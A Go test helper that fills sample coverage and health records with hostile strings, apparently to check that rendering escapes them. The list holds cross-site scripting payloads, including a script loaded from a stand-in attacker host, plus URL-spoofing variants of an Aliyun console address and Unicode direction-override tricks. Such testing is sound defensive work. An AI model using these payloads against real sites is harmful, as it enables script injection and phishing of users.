package functions

import (
	"fmt"
	"maps"
	"slices"
	"strings"
)

// hostileTexts are values that try to become markup, a script, a style or a link, to reorder what
// is read, or to break the layout.
var hostileTexts = []string{
	`"><script>document.title="taken";window.taken=1;alert(1)</script>`,
	`'><img src=x onerror=alert(1)><svg/onload=alert(1)>`,
	`</title></style></td></table><style>*{display:none}</style><iframe src="https://attacker.example/">`,
	`</script><script src=https://attacker.example/x.js></script>`,
	`" onmouseover="alert(1)" style="position:fixed" x="`,
	`javascript:alert(document.domain)`,
	`JaVaScRiPt:alert(1)`,
	"java\nscript:alert(1)",
	`data:text/html,<script>alert(1)</script>`,
	`https://attacker.example/`,
	`https://sls.console.aliyun.com.attacker.example/`,
	`https://sls.console.aliyun.com@attacker.example/`,
	`https://attacker.example\@sls.console.aliyun.com/`,
	`http://sls.console.aliyun.com/`,
	`//sls.console.aliyun.com/`,
	`https://sls.console.aliyun.com:8443/`,
	"https://sls.console.aliyun.com/\t<b>",
	`https://xn--sls-.example/?https://sls.console.aliyun.com/`,
	"moc.elpmaxe\u202egnp.exe\u202c \u2066isolate\u2069 \u200f",
	"null\x00byte and \x1b[31mescape",
	"lines\r\nof\ttext\u2028and\u2029more",
	"👩🏽‍🚀 emoji 🚨 and 漢字 and العربية and עברית",
	strings.Repeat("W", 5000),
	strings.Repeat("word ", 1000),
	`{{.Title}} ${7*7} {{"x"|print}}`,
	`<!-- comment --> ]]> <![CDATA[ &lt;b&gt; &#x3c;b&#x3e; &amp;`,
	"\xff\xfe not UTF-8",
	``,
}

// hostile returns an object in which every string is a hostile value; the first of them is the
// one at start.
func hostile(object any, start *int) any {
	switch object := object.(type) {
	case string:
		text := hostileTexts[*start%len(hostileTexts)]
		*start++
		return text
	case []any:
		var changed []any
		for _, element := range object {
			changed = append(changed, hostile(element, start))
		}
		if changed == nil {
			return []any{hostile("", start), hostile("", start)}
		}
		return changed
	case record:
		changed := record{}
		for _, name := range sortedNames(object) {
			changed[name] = hostile(object[name], start)
		}
		return changed
	}
	return object
}

// hostileCoverage returns an object of data.innertrail_coverage full of hostile values. It does not
// contradict itself.
func hostileCoverage(count, start int) record {
	object := hostile(sampleCoverage(count), &start).(record) //nolint:forcetypeassert // it is one
	for i := range count {
		account := object["accounts"].([]any)[i].(record) //nolint:forcetypeassert // it is one
		if account["account_id"] = fmt.Sprint(account["account_id"], i); account["covered"] == true {
			account["codes"] = []any{}
		}
	}
	return object
}

// hostileHealth returns a map of objects of data.innertrail_shipping full of hostile values, with
// such keys.
func hostileHealth(count, start int) record {
	objects := record{}
	for i := range count {
		sample := sampleHealth(fmt.Sprint(i), i%2 == 0)
		object := hostile(sample, &start).(record) //nolint:forcetypeassert // it is one
		if object["account_id"] = fmt.Sprint(object["account_id"], i); i%2 == 0 {
			object["reasons"], object["codes"] = []any{}, []any{}
			for _, s := range statuses {
				object[s.attribute] = s.healthy
			}
			object["integrity"].(record)["status"] = appendOnly //nolint:forcetypeassert // it is one
		}
		objects[fmt.Sprint(hostileTexts[i%len(hostileTexts)], i)] = object
	}
	return objects
}

func sortedNames(object record) []string { return slices.Sorted(maps.Keys(object)) }
